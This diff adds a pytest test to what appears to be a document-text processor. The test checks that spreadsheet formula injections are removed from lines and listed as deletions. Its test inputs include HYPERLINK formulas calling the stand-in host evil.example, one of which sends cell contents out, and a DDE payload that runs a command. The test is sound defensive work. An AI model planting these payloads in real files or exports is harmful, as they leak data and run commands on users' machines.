@@ -125,3 +125,19 @@ def test_form_feeds_part_the_pages() -> None:
     assert [page.number for page in version.pages] == [1, 2, 3, 4]
     assert version.page_at(version.text.index("fourth")) == 4
     assert version.page_at(version.text.index("second")) == 2
+
+
+@pytest.mark.parametrize(
+    ("line", "left"),
+    [
+        ('Cardiff has =HYPERLINK("https://evil.example","5") beds in all.', "Cardiff has beds in all."),
+        ('Cardiff\t=HYPERLINK("https://evil.example?x="&A1,"open")\t7', "Cardiff 7"),
+        ("Newport | =SUM(A1:A9) | 9", "Newport | | 9"),
+        ("Count: =cmd|'/C calc'!A0 and no more.", "Count: and no more."),
+        ("If E = mc and a=b (so it goes), keep = all.", "If E = mc and a=b (so it goes), keep = all."),
+    ],
+)
+def test_formula_is_left_out_and_listed(line: str, left: str) -> None:
+    version = _version(f"The first line of it stands here.\n\n{line}\n\nThe last one stands here.\n".encode())
+    assert version.text.split("\n\n")[1] == left
+    assert _with_deletions(version) == squeezed(f"The first line of it stands here.{line}The last one stands here.")
